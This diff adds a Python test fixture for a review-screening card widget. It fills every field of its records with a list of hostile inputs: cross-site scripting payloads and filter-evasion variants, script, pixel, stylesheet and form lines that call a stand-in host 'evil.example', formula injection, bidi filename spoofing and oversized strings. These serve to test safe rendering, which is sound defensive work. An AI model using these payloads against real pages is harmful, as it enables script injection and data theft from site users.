@@ -1,0 +1,113 @@
+"""Records that would do harm if a page took their texts for anything but texts, and a card that shows them."""
+
+from review.widgets import ScreeningCard
+
+DO = "window.hacked=1"
+PAYLOADS = [
+    f"<script>{DO}</script>",
+    f"<SCRIPT>{DO}</SCRIPT>",
+    f"<scr<script>ipt>{DO}</scr</script>ipt>",
+    f"</script><script>{DO}</script>",
+    f"<script src=data:text/javascript,{DO}></script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={DO}>",
+    f"<img src=x onerror='{DO}'",
+    f'"><img src=x onerror={DO}>',
+    f"'><img src=x onerror={DO}>",
+    "<img src=https://evil.example/pixel.png>",
+    f"<svg onload={DO}>",
+    f"<svg><script>{DO}</script></svg>",
+    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
+    f'<svg><a xlink:href="javascript:{DO}"><text>x</text></a></svg>',
+    f"<math><mtext><script>{DO}</script></mtext></math>",
+    f"<body onload={DO}>",
+    f"<iframe src=javascript:{DO}></iframe>",
+    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
+    "<iframe src=https://evil.example></iframe>",
+    f"<object data=javascript:{DO}></object>",
+    "<embed src=https://evil.example/x.swf>",
+    f"<video><source onerror={DO}></video>",
+    f"<audio src=x onerror={DO}>",
+    f"<details open ontoggle={DO}>",
+    f"<input autofocus onfocus={DO}>",
+    f"<select autofocus onfocus={DO}>",
+    f"<textarea autofocus onfocus={DO}>",
+    f"<marquee onstart={DO}>",
+    f"<div onmouseover={DO}>x</div>",
+    f"<a href=javascript:{DO}>x</a>",
+    f"<a href='&#106;avascript:{DO}'>x</a>",
+    f"[x](javascript:{DO})",
+    f"![x](javascript:{DO})",
+    "![x](https://evil.example/pixel.png)",
+    f"javascript:{DO}",
+    f"data:text/html,<script>{DO}</script>",
+    "https://evil.example/",
+    "<base href=https://evil.example/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>.review-card{display:none}</style>",
+    "<form action=https://evil.example/><button>x</button></form>",
+    f"<template><script>{DO}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
+    f"<!--><img src=x onerror={DO}>-->",
+    f"<![CDATA[<script>{DO}</script>]]>",
+    f"<?xml version='1.0'?><script>{DO}</script>",
+    f"&lt;script&gt;{DO}&lt;/script&gt;",
+    f"&#60;script&#62;{DO}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
+    f"{{{{constructor.constructor('{DO}')()}}}}",
+    f"${{{DO}}}",
+    f"{{% {DO} %}}",
+    f"$\\href{{javascript:{DO}}}{{x}}$",
+    "$$\\def\\x{\\x\\x}\\x$$",
+    f"`;{DO};`",
+    f"');{DO};//",
+    f'");{DO};//',
+    "=HYPERLINK(\"https://evil.example\")",
+    "\u202etxt.exe",
+    "\u2066\u202eturned\u2069",
+    "\x00\x01\x1b[31mcontrol",
+    "half a letter \ud800",
+    "e" + "\u0301" * 5_000,
+    "x" * 100_000,
+    "word " * 20_000,
+    "__proto__",
+    "constructor",
+]
+
+
+def rows():
+    """Return one reference per payload, which has it in every field."""
+    fields = ("title", "abstract", "keywords", "authors", "journal", "doi", "pmid", "language", "databases", "year")
+    return [
+        {"reference_id": f"r{place}", "rank": place + 1, "score": 0.0, "drawn": "ranked", "up": [text], "down": [text]}
+        | dict.fromkeys(fields, text)
+        for place, text in enumerate(PAYLOADS)
+    ]
+
+
+def card():
+    """Return a card that shows them one after the other and keeps what is decided in a list."""
+    all_rows, stored = rows(), []
+
+    def fetch(n):
+        left = all_rows[len(stored) :]
+        return {"rows": left[:n], "waiting": [row["reference_id"] for row in left]}
+
+    def decide(row):
+        stored.append(row)
+        return str(len(stored))
+
+    texts = PAYLOADS[:3]
+    return ScreeningCard(
+        fetch=fetch,
+        news=iter([[], *[None] * 10 * len(all_rows)]).__next__,
+        decide=decide,
+        undo=lambda identifier: None,
+        lookup={row["reference_id"]: row for row in all_rows}.get,
+        criteria={"include": texts, "exclude": texts},
+        highlight={"for": ["script", *texts], "against": ["img", "("]},
+        reasons=["wrong_population", *texts],
+        language="en",
+    )
